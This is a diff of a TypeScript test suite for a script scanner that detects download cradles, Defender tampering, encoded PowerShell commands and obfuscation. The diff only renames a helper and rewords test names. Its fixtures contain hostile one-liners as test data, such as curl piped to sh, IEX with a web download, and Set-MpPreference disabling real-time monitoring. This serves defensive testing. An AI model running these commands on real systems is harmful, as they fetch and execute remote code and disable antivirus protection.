@@ -9,12 +9,12 @@ import { script } from './script.ts';
 const INNER = 'Write-Host "a line that is long enough to be taken for text"';
 const encoded = Buffer.from(INNER, 'utf16le').toString('base64');
 
-function look(text: string, name = 'sample'): Promise<RecordedFindings> {
+function inspectText(text: string, name = 'sample'): Promise<RecordedFindings> {
   return inspect(script, Buffer.from(text, 'utf8'), { name });
 }
 
 async function tagsOf(text: string, name?: string): Promise<string[]> {
-  return [...(await look(text, name)).tags.keys()];
+  return [...(await inspectText(text, name)).tags.keys()];
 }
 
 function textsIn({ nested }: RecordedFindings): string[] {
@@ -45,7 +45,7 @@ describe('the kind of a script', () => {
     });
   }
 
-  it('is nothing for prose, data and programs', async () => {
+  it('is undefined for prose, data and programs', async () => {
     const others = [
       'Dear reader, please set the table and import the goods from there. Thank you for the function.',
       '{"a": [1, 2, 3]}',
@@ -56,7 +56,7 @@ describe('the kind of a script', () => {
     for (const text of others) assert.deepEqual(await tagsOf(text), []);
   });
 
-  it('is seen in UTF-16 too, with offsets in bytes', async () => {
+  it('is recognised in UTF-16 too, with offsets in bytes', async () => {
     const text = 'param($a)\r\nIEX (New-Object Net.WebClient).DownloadString($a)';
     const bytes = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
     const { tags } = await inspect(script, bytes);
@@ -65,7 +65,7 @@ describe('the kind of a script', () => {
   });
 });
 
-describe('what a script does', () => {
+describe('the behaviour of a script', () => {
   const cases: readonly (readonly [tag: string, text: string, name: string])[] = [
     ['DOWNLOAD_CRADLE', "IEX(iwr 'http://192.0.2.1/a')", 'a.ps1'],
     ['DOWNLOAD_CRADLE', 'curl -s http://192.0.2.1/a | sh', 'a.sh'],
@@ -98,7 +98,7 @@ describe('what a script does', () => {
     });
   }
 
-  it('is nothing hot for ordinary scripts', async () => {
+  it('has no suspicious tags for ordinary scripts', async () => {
     const honest: readonly (readonly [string, string])[] = [
       [
         'if (window.XMLHttpRequest) {} else new ActiveXObject("Microsoft.XMLHTTP"); /a/.exec(b)',
@@ -117,13 +117,13 @@ describe('what a script does', () => {
     for (const [text, name] of honest) assert.equal((await tagsOf(text, name)).length, 1, text);
   });
 
-  it('is told with the place where it stands', async () => {
+  it('is reported with its offset', async () => {
     const text = '# \u00e9\nSet-MpPreference -DisableRealtimeMonitoring 1';
-    const offset = (await look(text, 'a.ps1')).tags.get('DEFENDER_TAMPERING')?.offset ?? 0;
+    const offset = (await inspectText(text, 'a.ps1')).tags.get('DEFENDER_TAMPERING')?.offset ?? 0;
     assert.equal(Buffer.from(text).toString('utf8', offset, offset + 16), 'Set-MpPreference');
   });
 
-  it('may be hidden: many escapes and joints are a trait of their own', async () => {
+  it('may be obfuscated, which has a tag of its own', async () => {
     const hidden =
       "$a = 'W'+'r'+'i'+'t'+'e'+'-'+'H'+'o'+'s'+'t'+' '+'a'+' '+'l'+'i'+'n'+'e'+' '+'o'+'f'+' '+'t'+'e'+'x'+'t'";
     assert.ok((await tagsOf(hidden, 'a.ps1')).includes('OBFUSCATED_SCRIPT'));
@@ -132,21 +132,24 @@ describe('what a script does', () => {
   });
 });
 
-describe('what a script carries', () => {
-  it('is the command behind -EncodedCommand, in all its spellings', async () => {
+describe('content that a script embeds', () => {
+  it('is the command after -EncodedCommand, in all spellings', async () => {
     for (const parameter of ['-e', '-enc', '-EncodedCommand', '/ec', '-en^c']) {
-      const found = await look(`powershell.exe -nop ${parameter} ${encoded}`, 'a.bat');
+      const found = await inspectText(`powershell.exe -nop ${parameter} ${encoded}`, 'a.bat');
       assert.ok(found.tags.has('ENCODED_COMMAND'), parameter);
       assert.deepEqual(found.nested, [{ name: 'encoded command.ps1', bytes: Buffer.from(INNER) }]);
     }
   });
 
   it('is not the value of another parameter', async () => {
-    const found = await look(`powershell.exe -ExecutionPolicy ${encoded.slice(0, 100)}`, 'a.bat');
+    const found = await inspectText(
+      `powershell.exe -ExecutionPolicy ${encoded.slice(0, 100)}`,
+      'a.bat',
+    );
     assert.ok(!found.tags.has('ENCODED_COMMAND'));
   });
 
-  it('is a literal in base64, packed or not, forwards or backwards', async () => {
+  it('is a base64 literal, packed or not, also reversed', async () => {
     const bytes = Buffer.from(INNER.repeat(4));
     const forms = [bytes, gzipSync(bytes), deflateSync(bytes), deflateRawSync(bytes)].map((form) =>
       form.toString('base64'),
@@ -154,14 +157,14 @@ describe('what a script carries', () => {
     forms.push([...bytes.toString('base64')].reverse().join(''));
     for (const form of forms) {
       const text = `$s = [IO.Compression.DeflateStream]; [Convert]::FromBase64String('${form}')`;
-      assert.deepEqual(textsIn(await look(text, 'a.ps1')), [bytes.toString()]);
+      assert.deepEqual(textsIn(await inspectText(text, 'a.ps1')), [bytes.toString()]);
     }
   });
 
-  it('is put together before it is decoded', async () => {
+  it('is concatenated before it is decoded', async () => {
     const form = Buffer.from(INNER).toString('base64');
     const text = `[Convert]::FromBase64String('${form.slice(0, 20)}'+'${form.slice(20)}')`;
-    assert.deepEqual(textsIn(await look(text, 'a.ps1')), [INNER]);
+    assert.deepEqual(textsIn(await inspectText(text, 'a.ps1')), [INNER]);
   });
 
   it('is a program in hex digits or in a list of numbers', async () => {
@@ -172,7 +175,7 @@ describe('what a script carries', () => {
       `$a = ${[...program].join(', ')}`,
     ];
     for (const form of forms) {
-      assert.deepEqual((await look(form, 'a.ps1')).nested[0]?.bytes, program);
+      assert.deepEqual((await inspectText(form, 'a.ps1')).nested[0]?.bytes, program);
     }
   });
 
@@ -183,19 +186,20 @@ describe('what a script carries', () => {
       [codes.map((code) => `[char]${code}`).join('+'), 'a.ps1'],
       [`String.fromCharCode(${codes.join(',')})`, 'a.js'],
     ];
-    for (const [form, name] of forms) assert.deepEqual(textsIn(await look(form, name)), [INNER]);
+    for (const [form, name] of forms)
+      assert.deepEqual(textsIn(await inspectText(form, name)), [INNER]);
   });
 
   it('is not every long word or list', async () => {
-    const table = Array.from({ length: 64 }, (_, place) => (place * 37 + 128) % 256).join(',');
-    assert.deepEqual((await look(`var a = [${table}];`, 'a.js')).nested, []);
-    assert.deepEqual((await look(`var a = "${'x'.repeat(100)}";`, 'a.js')).nested, []);
-    assert.deepEqual((await look(`padding = [${'0x20, '.repeat(64)}]`, 'a.py')).nested, []);
+    const table = Array.from({ length: 64 }, (_, index) => (index * 37 + 128) % 256).join(',');
+    assert.deepEqual((await inspectText(`var a = [${table}];`, 'a.js')).nested, []);
+    assert.deepEqual((await inspectText(`var a = "${'x'.repeat(100)}";`, 'a.js')).nested, []);
+    assert.deepEqual((await inspectText(`padding = [${'0x20, '.repeat(64)}]`, 'a.py')).nested, []);
   });
 
-  it('is cut where it unpacks to too much', async () => {
+  it('is cut if it unpacks to too much', async () => {
     const bomb = gzipSync(Buffer.alloc(20 * 1024 * 1024)).toString('base64');
-    const found = await look(`[Convert]::FromBase64String('${bomb}')`, 'a.ps1');
+    const found = await inspectText(`[Convert]::FromBase64String('${bomb}')`, 'a.ps1');
     assert.deepEqual(found.limits, ['an encoded part unpacks to more than 16777216 bytes']);
   });
 });
@@ -219,14 +223,14 @@ describe('a hostile script', () => {
     });
   }
 
-  it('is read as far as is sensible, and says so', async () => {
+  it('is read up to the limit, and reports it', async () => {
     const { limits } = await inspect(script, Buffer.alloc(50 * 1024 * 1024, ' '), {
       name: 'a.ps1',
     });
     assert.deepEqual(limits, ['the text is longer than what is looked at']);
   });
 
-  it('returns for whatever it is given', async () => {
+  it('returns for any input', async () => {
     const good = Buffer.from(
       `IEX([Convert]::FromBase64String('${encoded}')) # chr(65)&chr(66) 1,2,3`,
     );
